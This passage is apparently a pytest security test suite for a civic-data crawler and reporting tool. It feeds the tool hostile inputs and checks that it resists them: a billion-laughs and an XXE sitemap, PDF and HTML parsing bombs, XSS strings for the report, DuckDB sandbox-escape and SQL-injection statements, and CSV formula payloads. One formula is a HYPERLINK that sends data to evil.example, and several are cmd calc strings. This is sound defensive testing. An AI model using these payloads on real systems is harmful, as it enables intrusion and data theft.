    """Over the raised cap: too_large as before, the WARC record holds the first max_bytes (marked
    truncated) and replay gives the same outcome."""
    from warcio.archiveiterator import ArchiveIterator

    data = _varied_json(6 * MB)
    with Wire(PUBLIC, routes={"/data.json": _catalog_route(data, "chunked")}) as public:
        cfg = _config(resolve={"portal.city.example": f"{PUBLIC}:{public.port}"},
                      allow_addresses=(f"{PUBLIC}/32",), max_bytes=1 * MB)
        with Fetcher(cfg, run_dir=tmp_path / "run") as f:
            result = f.get("http://portal.city.example/data.json", max_bytes=4 * MB)
    assert (result.outcome.value, result.body, result.error) == ("too_large", b"", f"body exceeded {4 * MB} bytes")
    (warc,) = (tmp_path / "run" / "warc").iterdir()
    with open(warc, "rb") as fh:
        records = [(r.rec_headers.get_header("WARC-Truncated"), r.content_stream().read())
                   for r in ArchiveIterator(fh) if r.rec_type == "response"
                   and r.rec_headers.get_header("WARC-Target-URI").endswith("/data.json")]
    assert records == [("length", data[:MB])]
    with Fetcher(FetcherConfig(replay=(str(tmp_path / "run" / "warc"),))) as f:
        assert f.get("http://portal.city.example/data.json").outcome.value == "too_large"


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]><urlset><url><loc>http://www.city.example/&lol9;</loc></url></urlset>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b"<urlset><url><loc>http://www.city.example/&xxe;</loc></url></urlset>")


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE], ids=["billion_laughs", "external_entity"])
def test_sitemap_entities_are_never_expanded(body: bytes, tmp_path: Path) -> None:
    """Sitemaps are the one XML the crawl parses: expat refuses entity amplification, ElementTree never
    fetches external entities, and the crawl reads the sitemap as empty."""
    from sources.evidence.crawl import _read_sitemap

    with Wire(PUBLIC, routes={"/sitemap.xml": response(200, headers=[("Content-Type", "application/xml")],
                                                      body=body)}) as public:
        cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}"}, allow_addresses=(f"{PUBLIC}/32",))
        with Fetcher(cfg, run_dir=tmp_path) as f:
            assert _read_sitemap(f, "http://www.city.example/sitemap.xml") == ([], [])


PDF_CHILD = """
from pathlib import Path
from sources.evidence.documents import load
data = Path(sys.argv[1]).read_bytes()
mark()
doc = load(data, content_type="application/pdf")
print(json.dumps({"pages": doc.pages, "error": doc.error, "text": doc.text[:200], "growth": growth()}))
"""


def test_pdf_stream_inflating_to_a_gigabyte_is_an_error_with_bounded_memory(tmp_path: Path) -> None:
    from tests.simweb.formats.pdf import bomb_pdf

    path = tmp_path / "bomb.pdf"
    path.write_bytes(bomb_pdf(["Open Data Policy", "The city keeps a data inventory."], title="Open Data Policy",
                              inflated_mb=1024))
    assert path.stat().st_size < 2 * MB
    out = _child(PDF_CHILD, str(path))
    assert out["pages"] == 1 and "page 2" in out["error"] and "data inventory" in out["text"], out
    assert out["growth"] < MEMORY_BOUND, f"{out['growth'] / MB:.0f} MiB"


def _operator_pdf(tokens_per_page: int, pages: int) -> bytes:
    """``pages`` pages sharing one small FlateDecode content stream that holds ``tokens_per_page`` tokens of
    text operators (``BT /F1 9 Tf (open data) Tj ET``): ~8 MB of operators per page in a ~20 KB file."""
    ops = b"BT /F1 9 Tf (open data) Tj ET\n" * (tokens_per_page // 7)
    stream = zlib.compress(ops, 9)
    kids = b" ".join(b"%d 0 R" % (5 + k) for k in range(pages))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream)]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
             b"/Contents 4 0 R >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for num, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n\r\n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


@pytest.mark.slow
def test_pdf_parsing_cost_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "operators.pdf"
    path.write_bytes(_operator_pdf(1_800_000, 40))
    assert path.stat().st_size < 64 * 1024
    try:
        out = _child(PDF_CHILD, str(path), timeout=30)
    except subprocess.TimeoutExpired:
        pytest.fail("reading one 20 KB PDF took more than 30 s")
    assert out["growth"] < MEMORY_BOUND, f"{out['growth'] / MB:.0f} MiB"


HTML_CHILD = """
import time
from sources.evidence.documents import load
html = sys.argv[1] * int(sys.argv[2])
data = ("<html><body><main>" + html + "budget</main></body></html>").encode()
mark()
start = time.monotonic()
doc = load(data, content_type="text/html")
print(json.dumps({"seconds": time.monotonic() - start, "bytes": len(data), "growth": growth()}))
"""


@pytest.mark.slow
@pytest.mark.parametrize(("fragment", "count"), [("<ul><li>", 4000), ("<a href='/x'>", 8000)])
def test_html_parsing_cost_is_bounded(fragment: str, count: int) -> None:
    try:
        out = _child(HTML_CHILD, fragment, str(count), timeout=8)
    except subprocess.TimeoutExpired:
        pytest.fail(f"reading {len(fragment) * count // 1024} KB of nested {fragment!r} took more than 8 s")
    assert out["seconds"] < 2 and out["growth"] < MEMORY_BOUND, out


# ================================================================================ 4. report injection
QUOTE_BREAK = "\"><img src=x onerror=alert(11)>' onmouseover='alert(12)"
HOSTILE_STATE = 'Z"><svg onload=alert(20)>'
HOSTILE_URLS = {
    "quote": 'https://evidence.example/p?q="><script>alert(13)</script>',
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=",
    "vbscript": "vbscript:msgbox(15)",
    "scheme_relative": "//evil.example/x",
    "backslashes": "https:\\\\evil.example\\x",
    "tab": "java\tscript:alert(16)",
    "control": "\x01javascript:alert(17)",
    "entity": "javascript&colon;alert(18)",
    "no_host": "http:alert(19)",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.script_text.append(data)


def _parse(path: Path) -> _Tags:
    parser = _Tags()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


@pytest.fixture(scope="module")
def hostile_site(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The sample warehouse with attribute-breaking text in every field the report puts inside an attribute
    (city name, state, tiers, run metadata) and hostile URLs in evidence, then the report built from it."""
    home = _copy_home(sample_home, tmp_path_factory.mktemp("hostile_home"))
    (geoid,) = _read(home, "SELECT t.geoid FROM marts.outreach_targets t WHERE EXISTS (SELECT 1 FROM "
                           "marts.evidence_latest e WHERE e.geoid = t.geoid) ORDER BY rank LIMIT 1")[0]
    _write(home, "UPDATE marts.city_index SET city = ?, state = ?, predicted_tier = ? WHERE geoid = ?",
           [QUOTE_BREAK, HOSTILE_STATE, 'gold" onclick="alert(21)', geoid])
    _write(home, "UPDATE marts.city_index SET certified_tier = ? WHERE geoid = (SELECT max(geoid) FROM "
                 "marts.city_index WHERE geoid <> ?)", ["silver' onfocus='alert(22)", geoid])
    (url,) = _read(home, "SELECT min(url) FROM marts.evidence WHERE geoid = ?", [geoid])[0]
    for i, hostile in enumerate(HOSTILE_URLS.values()):   # one more evidence page per hostile URL
        _write(home, "INSERT INTO marts.evidence SELECT * REPLACE (? AS url, ? AS kind) FROM marts.evidence "
                     "WHERE geoid = ? AND url = ?", [hostile, f'kind" onmouseover="alert({30 + i})', geoid, url])
    _write(home, "UPDATE marts.evidence SET snippet = ? WHERE geoid = ?", ["</blockquote></li></ol>" + QUOTE_BREAK, geoid])
    _write(home, "UPDATE staging.city_signals SET source = ? WHERE geoid = ? AND source IS NOT NULL",
           [HOSTILE_URLS["quote"], geoid])
    _write(home, "UPDATE ops.runs SET mode = ?, cdpi_version = ?", ['<script>alert(40)</script>', '"><b>x</b>'])
    site = tmp_path_factory.mktemp("hostile_site")
    build_report(WarehousePaths(home), site)
    return site, geoid


def _pages(site: Path) -> list[Path]:
    return [site / "index.html", site / "targets.html", site / "validation.html", site / "methodology.html",
            *sorted((site / "cities").glob("*.html"))]


def test_report_attribute_contexts_stay_closed(hostile_site: tuple[Path, str]) -> None:
    """Quote-breaking text inside data-*, class, option values, aria-label and SVG labels: every attribute
    is escaped, so the text round-trips as the attribute's value and never opens a new attribute or tag."""
    site, geoid = hostile_site
    for page in _pages(site):
        parsed = _parse(page)
        names = {tag for tag, _ in parsed.tags}
        assert not names & {"img", "iframe", "object", "embed", "b", "base", "frame"}, (page, names)
        events = [(tag, k) for tag, attrs in parsed.tags for k in attrs if k.lower().startswith("on")]
        assert events == [], (page, events)
        assert parsed.script_text == [], "no inline script body on any page"
        assert [a for t, a in parsed.tags if t == "script"] == [
            {"src": "../report.js" if page.parent.name == "cities" else "report.js"}]
    index = _parse(site / "index.html").tags
    assert {"data-city": QUOTE_BREAK.lower()} in [a for t, a in index if t == "tr"], "value survives intact"
    targets = _parse(site / "targets.html").tags
    assert any(t == "tr" and a.get("data-city") == QUOTE_BREAK.lower() and a.get("data-state") ==
               HOSTILE_STATE for t, a in targets)
    assert ("option", {"value": HOSTILE_STATE}) in targets
    badges = {a["class"] for t, a in index + targets if t == "span" and "badge" in (a.get("class") or "")}
    assert "badge tier-unknown" in badges and all(re.fullmatch(r"badge tier-[a-z_]+", b) for b in badges), badges
    # The SVG charts colour segments by tier key, hostile keys included: escaped, so still one class value.
    segments = [a["class"] for t, a in index if t == "rect" and "seg" in (a.get("class") or "")]
    assert 'seg seg-gold" onclick="alert(21)' in segments
    city = _parse(site / "cities" / f"{geoid}.html").tags
    spark = [a for t, a in city if t == "svg" and "spark" in (a.get("class") or "")]
    assert spark and spark[0]["aria-label"].startswith("History of " + QUOTE_BREAK)


def test_report_links_only_http_with_intact_href(hostile_site: tuple[Path, str]) -> None:
    site, geoid = hostile_site
    city_page = site / "cities" / f"{geoid}.html"
    hrefs = [a["href"] for t, a in _parse(city_page).tags if t == "a" and a.get("href")]
    assert HOSTILE_URLS["quote"] in hrefs, "a quote inside an http(s) URL stays inside the href"
    for page in _pages(site):
        for tag, attrs in _parse(page).tags:
            for name in ("href", "src", "action", "formaction", "xlink:href", "data", "poster"):
                value = attrs.get(name)
                if value is None or (tag, name, value) == ("link", "href", "data:,"):   # the empty favicon
                    continue
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in ("", "http", "https"), (page, tag, value)
                assert not value.strip().startswith("//") and "\\" not in value, (page, tag, value)
                if scheme:
                    assert safe_href(value) == value
    text = city_page.read_text(encoding="utf-8")
    for hostile in ("vbscript:msgbox(15)", "//evil.example/x", "javascript&amp;colon;alert(18)"):
        assert hostile in text, f"{hostile} is shown as text"


def test_report_pages_carry_a_strict_csp_and_the_script_writes_no_markup(hostile_site: tuple[Path, str]) -> None:
    site, _ = hostile_site
    for page in _pages(site):
        metas = [a for t, a in _parse(page).tags if t == "meta" and
                 (a.get("http-equiv") or "").lower() == "content-security-policy"]
        assert len(metas) == 1, page
        policy = metas[0]["content"]
        assert "default-src 'none'" in policy and "script-src 'self'" in policy
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "<svg onload" not in text and "<b>x</b>" not in text
    js = (site / "report.js").read_text(encoding="utf-8")
    # The one URL it writes is the blob: address of the CSV it builds itself (the download button).
    sinks = re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\s*\(|new\s+Function|"
                       r"setTimeout\s*\(\s*['\"]|setInterval\s*\(\s*['\"]|\.src\s*=|"
                       r"\.href\s*=(?!\s*URL\.createObjectURL\(blob\))|setAttribute\(\s*['\"](?:href|src)", js)
    assert sinks == [], "report.js reads the DOM (textContent, getAttribute) and writes no markup or URLs"
    assert js.count("URL.createObjectURL(blob)") == 1, "the CSV download's own blob: address"


# ================================================================================ 5. SQL from user input
SANDBOX_ESCAPES = [
    "CREATE TABLE marts.pwned AS SELECT 1",
    "INSERT INTO ops.runs (run_id) VALUES ('pwned')",
    "UPDATE marts.city_index SET city = 'pwned'",
    "DROP VIEW marts.city_index_latest",
    "ATTACH '{out}/other.duckdb' AS other",
    "COPY (SELECT * FROM marts.city_index) TO '{out}/leak.csv'",
    "COPY marts.city_index TO '{out}/leak.parquet' (FORMAT parquet)",
    "EXPORT DATABASE '{out}/dump'",
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM '{secret}'",
    "SELECT * FROM glob('{out}/*')",
    "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
    "INSTALL httpfs",
    "FORCE INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "RESET enable_external_access",
    "SET lock_configuration = false",
    "SET allowed_directories = ['/']",
    "SET temp_directory = '{out}/spill'",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "CALL enable_logging()",
    "PRAGMA enable_profiling",
    "PRAGMA memory_limit='1TB'",
    "PRAGMA table_info('marts.cities'); DROP TABLE marts.cities",
    "PRAGMA table_info('x') ; INSTALL httpfs",
]


@pytest.mark.parametrize("statement", SANDBOX_ESCAPES)
def test_cdpi_sql_is_read_only_and_sandboxed(statement: str, attack_home: Path, tmp_path: Path,
                                             capsys: pytest.CaptureFixture) -> None:
    warehouse = WarehousePaths(attack_home).published
    secret = tmp_path / "secret.csv"
    secret.write_text("token\nTOPSECRET-42\n")
    out = tmp_path / "out"
    out.mkdir()
    digest = _sha256(warehouse)
    query = statement.format(out=out, secret=secret, warehouse=warehouse)
    code = cli(["sql", query, "--home", str(attack_home), "--format", "csv"])
    captured = capsys.readouterr()
    assert code == 1 and captured.err.startswith("cdpi: error:"), (query, code, captured)
    assert "TOPSECRET" not in captured.out + captured.err
    assert list(out.iterdir()) == [] and _sha256(warehouse) == digest


def test_cdpi_sql_cannot_reattach_the_warehouse_read_write(sample_home: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture) -> None:
    home = _copy_home(sample_home, tmp_path / "home")
    warehouse = WarehousePaths(home).published
    digest = _sha256(warehouse)
    runs = _read(home, "SELECT count(*) FROM ops.runs")[0][0]
    code = cli(["sql", f"USE memory; DETACH wh; ATTACH '{warehouse}' AS writable; DELETE FROM writable.ops.runs; "
                       "CREATE TABLE writable.main.pwned AS SELECT 1 AS x", "--home", str(home), "--format", "csv"])
    capsys.readouterr()
    assert _read(home, "SELECT count(*) FROM ops.runs")[0][0] == runs, "ops.runs was emptied through cdpi sql"
    assert code == 1 and _sha256(warehouse) == digest


def test_cdpi_sql_runs_one_read_only_statement(attack_home: Path, capsys: pytest.CaptureFixture) -> None:
    """Statement lists and anything but a read are refused before they run, with a message naming what was
    sent; the published file is byte-for-byte unchanged."""
    warehouse = WarehousePaths(attack_home).published
    digest = _sha256(warehouse)
    assert cli(["sql", "USE memory; CREATE TABLE scratch AS SELECT 1 AS x; SELECT * FROM scratch",
                "--home", str(attack_home), "--format", "csv"]) == 1
    assert "single read-only query" in capsys.readouterr().err
    assert cli(["sql", "EXPLAIN SELECT 1", "--home", str(attack_home), "--format", "csv"]) == 0
    assert _sha256(warehouse) == digest


def test_cdpi_sql_answers_the_introspection_analysts_type(sample_home: Path, capsys: pytest.CaptureFixture) -> None:
    """SHOW TABLES lists the warehouse's tables and views with their descriptions (not the empty main
    schema); DESCRIBE, SUMMARIZE, SHOW ALL TABLES and PRAGMA table_info of a table read as queries do."""
    import csv
    import io

    def run(query: str) -> list[dict[str, str]]:
        assert cli(["sql", query, "--home", str(sample_home), "--format", "csv"]) == 0, capsys.readouterr().err
        return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))

    tables = {(r["schema"], r["name"]): r for r in run("show tables")}
    assert tables[("marts", "cities")]["kind"] == "table" and tables[("marts", "cities_latest")]["kind"] == "view"
    assert tables[("marts", "cities")]["comment"].startswith("The city universe")
    assert {r["column_name"] for r in run("DESCRIBE marts.cities")} >= {"geoid", "website_url", "kind"}
    assert {r["column_name"] for r in run("SUMMARIZE marts.cities")} >= {"geoid", "population"}
    assert {r["name"] for r in run("PRAGMA table_info('marts.cities')")} >= {"geoid", "kind"}
    assert any(r["name"] == "cities" for r in run("SHOW ALL TABLES"))


PAYLOADS = ["OH' OR '1'='1", "' OR 1=1 --", "OH'); DROP TABLE marts.city_index; --", "%", "$state", "?"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_targets_filter_values_are_bound(payload: str, attack_home: Path) -> None:
    """Below argparse's USPS check (tests/test_staff_cli.py covers the CLI refusing such a --state), the
    filter itself binds: an injection payload matches no state rather than every row."""
    con = connect_published(WarehousePaths(attack_home))
    try:
        every = targets(con, TargetFilter(limit=None))
        hostile = targets(con, TargetFilter(state=payload, tier=None, limit=None))
        state = every["state"].iloc[0]
        one_state = targets(con, TargetFilter(state=state, limit=None))
    finally:
        con.close()
    assert len(every) > 0 and hostile.empty
    assert 0 < len(one_state) <= len(every) and set(one_state["state"]) == {state}


@pytest.mark.parametrize("payload", ["x' OR '1'='1' --, OH", "'; DROP TABLE marts.city_index; --",
                                     "%, %", "Alder Falls' UNION SELECT * FROM ops.runs --, OH", "?, ?"])
def test_cdpi_city_binds_the_name(payload: str, attack_home: Path, capsys: pytest.CaptureFixture) -> None:
    """`cdpi city` (tests/test_staff_cli.py covers `cdpi history` with the same payloads)."""
    before = _read(attack_home, "SELECT count(*) FROM marts.city_index")[0][0]
    assert cli(["city", payload, "--home", str(attack_home)]) == 1
    err = capsys.readouterr().err
    assert "no city" in err and "Error:" not in err.replace("cdpi: error:", "")
    assert _read(attack_home, "SELECT count(*) FROM marts.city_index")[0][0] == before


def _execute_calls(path: Path, skip_functions: set[str]) -> Iterator[tuple[str, int, ast.expr]]:
    """(function, line, SQL argument) of every ``.execute(...)`` call; a module-level constant (such as
    outreach._TARGETS_SQL) counts as constant text."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    constants = {t.id for node in tree.body if isinstance(node, ast.Assign) for t in node.targets
                 if isinstance(t, ast.Name)}
    for func in ast.walk(tree):
        if not isinstance(func, ast.FunctionDef) or func.name in skip_functions:
            continue
        for node in ast.walk(func):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "execute":
                sql = node.args[0]
                if isinstance(sql, ast.Name) and sql.id in constants:
                    sql = ast.Constant(value=sql.id)
                yield func.name, node.lineno, sql


@pytest.mark.parametrize("module", ["pipelines/cli.py", "warehouse/outreach.py", "warehouse/scorecard.py"])
def test_sql_reachable_from_cli_arguments_is_constant_text(module: str) -> None:
    """Static complement of the tests above: in the code between a CLI argument and DuckDB, every SQL text
    is a literal or a module constant (values travel as parameters); `cdpi sql` itself is the sandbox's job."""
    for func, line, sql in _execute_calls(REPO / module, skip_functions={"cmd_sql"}):
        assert isinstance(sql, ast.Constant), f"{module}:{line} in {func} builds SQL text at run time"


# ================================================================ 6. formulas in spreadsheet files
#: One text per character that makes a spreadsheet run a cell (OWASP's list for CSV injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open the policy")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A carriage return inside a text must not end the row, or the rest would start a cell of its own.
INSIDE = "Alder Falls\r=1+1"


def _formula_cells(cells: list) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c[:1] in TRIGGERS]


def test_exported_csv_never_starts_a_cell_with_a_formula(sample_home: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture) -> None:
    home = _copy_home(sample_home, tmp_path / "home")
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the policy")'
    _write(home, "UPDATE marts.evidence SET snippet = ? WHERE run_id = (SELECT run_id FROM ops.latest_run)",
           [formula])
    assert cli(["export", "--home", str(home), "--out", str(tmp_path / "out"), "--format", "csv"]) == 0
    capsys.readouterr()
    (folder,) = _visible(tmp_path / "out")
    with open(folder / "marts.evidence.csv", encoding="utf-8", newline="") as fh:
        snippets = [row["snippet"] for row in csv.DictReader(fh) if "HYPERLINK" in (row["snippet"] or "")]
    assert snippets, "the scraped snippet is exported"
    assert not [c for c in snippets if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a live formula in the CSV"


@pytest.fixture(scope="module")
def formula_home(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the sample warehouse whose seven best outreach targets are named by the six formula texts and
    by INSIDE, with a negative number in a numeric column (coverage) of the first one, and a formula as the
    latest run's mode."""
    home = _copy_home(sample_home, tmp_path_factory.mktemp("formula_home"))
    geoids = [g for (g,) in _read(home, "SELECT geoid FROM marts.outreach_targets ORDER BY rank LIMIT 7")]
    assert len(geoids) == len(FORMULAS) + 1
    latest = "(SELECT run_id FROM ops.latest_run)"
    for geoid, text in zip(geoids, [*FORMULAS, INSIDE], strict=True):
        _write(home, f"UPDATE marts.city_index SET city = ? WHERE geoid = ? AND run_id = {latest}", [text, geoid])
    _write(home, f"UPDATE marts.city_index SET coverage = -3.5 WHERE geoid = ? AND run_id = {latest}", [geoids[0]])
    _write(home, f"UPDATE ops.runs SET mode = '=1+2' WHERE run_id = {latest}")
    return home


def _city_of_first_target(home: Path) -> str:
    (state,) = _read(home, "SELECT state FROM marts.outreach_targets ORDER BY rank LIMIT 1")[0]
    return f"{FORMULAS[0]}, {state}"


def test_export_csv_neutralizes_text_only_and_parquet_keeps_it_exact(formula_home: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture) -> None:
    """Every text cell of every exported CSV is safe, numbers (-3.5) are written as they are, the Parquet
    files hold the exact text, and the manifest tells the reader."""
    assert cli(["export", "--home", str(formula_home), "--out", str(tmp_path), "--format", "both"]) == 0
    capsys.readouterr()
    (folder,) = _visible(tmp_path)
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert not _formula_cells([c for row in rows for c in row if not _number(c)]), path.name
    with open(folder / "marts.outreach_targets.csv", encoding="utf-8", newline="") as fh:
        cities = {row["city"]: row for row in csv.DictReader(fh)}
    assert {c for c in cities if c.startswith("'")} == {"'" + f for f in FORMULAS} and INSIDE in cities
    assert cities["'" + FORMULAS[0]]["coverage"] == "-3.5", "a negative number stays a number"
    exact = duckdb.sql(f"SELECT city FROM read_parquet('{folder / 'marts.outreach_targets.parquet'}')").fetchall()
    assert set(FORMULAS) <= {c for (c,) in exact}, "Parquet keeps the exact text"
    assert "apostrophe" in json.loads((folder / "manifest.json").read_text())["csv_text_cells"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("command", "fmt", "to_file"), [
    ("targets", "csv", False), ("targets", "tsv", False), ("targets", "csv", True), ("targets", "auto", False),
    ("history", "csv", False), ("history", "tsv", True), ("sql", "csv", False), ("sql", "tsv", False),
    ("runs", "csv", False)])
def test_cli_csv_and_tsv_never_start_a_cell_with_a_formula(command: str, fmt: str, to_file: bool,
                                                           formula_home: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture) -> None:
    """`cdpi targets/history/sql/runs` as CSV or TSV (TSV is also what a pipe gets): text cells are safe,
    numbers are not touched; the JSON output keeps the exact text."""
    args = {"targets": ["targets", "--limit", "10"], "history": ["history", _city_of_first_target(formula_home)],
            "sql": ["sql", "SELECT city, coverage FROM marts.outreach_targets ORDER BY rank LIMIT 10"],
            "runs": ["runs"]}[command] + ["--home", str(formula_home)]
    out = tmp_path / "out.txt"
    assert cli(args + ["--format", fmt] + (["--out", str(out)] if to_file else [])) == 0
    text = out.read_bytes().decode("utf-8") if to_file else capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) > 1 and not _formula_cells([c for c in cells if not _number(c)]), cells
    hostile = "=1+2" if command in ("history", "runs") else FORMULAS[0]
    assert "'" + hostile in cells
    if command in ("targets", "sql"):
        assert INSIDE in cells, "a carriage return inside a text stays inside its cell"
    if command != "runs":
        assert "-3.5" in cells, "a negative number stays a number"
    capsys.readouterr()
    assert cli(args + ["--format", "json"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert hostile in {v for r in records for v in r.values()}, "JSON keeps the exact text"


@pytest.mark.parametrize("command", ["targets", "history"])
def test_xlsx_holds_no_formula_and_keeps_numbers(command: str, formula_home: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture) -> None:
    """openpyxl stores a string that starts with = as a formula: `--format xlsx` writes safe text instead,
    and numbers stay numeric cells."""
    import openpyxl

    out = tmp_path / "out.xlsx"
    args = ["targets", "--limit", "10"] if command == "targets" else ["history", _city_of_first_target(formula_home)]
    assert cli(args + ["--home", str(formula_home), "--format", "xlsx", "--out", str(out)]) == 0
    capsys.readouterr()
    sheet = openpyxl.load_workbook(out)["cdpi"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    assert not _formula_cells([c.value for c in cells])
    values = [c.value for c in cells]
    assert ("'" + FORMULAS[0] if command == "targets" else "'=1+2") in values
    assert -3.5 in values, "a negative number stays a numeric cell"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-3.5", "'-3.5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain text", "plain text"), ("", ""), (" =1", " =1"), ("'=1", "'=1"), ("a=1", "a=1"),
    (-3.5, -3.5), (-2, -2), (None, None), (True, True)])
def test_spreadsheet_rule_changes_only_text_that_a_spreadsheet_would_run(value: object, expected: object) -> None:
    from warehouse.spreadsheet import neutralize

    assert neutralize(value) == expected and type(neutralize(value)) is type(expected)


def test_spreadsheet_rule_on_a_frame_leaves_numeric_columns_alone() -> None:
    import pandas as pd

    from warehouse.spreadsheet import neutralize_frame

    frame = pd.DataFrame({"text": ["=1+1", "ok", None], "n": [-3.5, 1.0, float("nan")], "i": [-1, 2, 3],
                          "s": pd.array(["-x", None, "y"], dtype="string")})
    out = neutralize_frame(frame)
    assert list(out["text"][:2]) == ["'=1+1", "ok"] and out["text"][2] is None
    assert list(out["s"][[0, 2]]) == ["'-x", "y"] and out["s"].isna()[1]
    assert out["n"].tolist()[:2] == [-3.5, 1.0] and out["i"].tolist() == [-1, 2, 3]
    assert list(out.dtypes) == list(frame.dtypes) and frame["text"][0] == "=1+1", "the input is not changed"
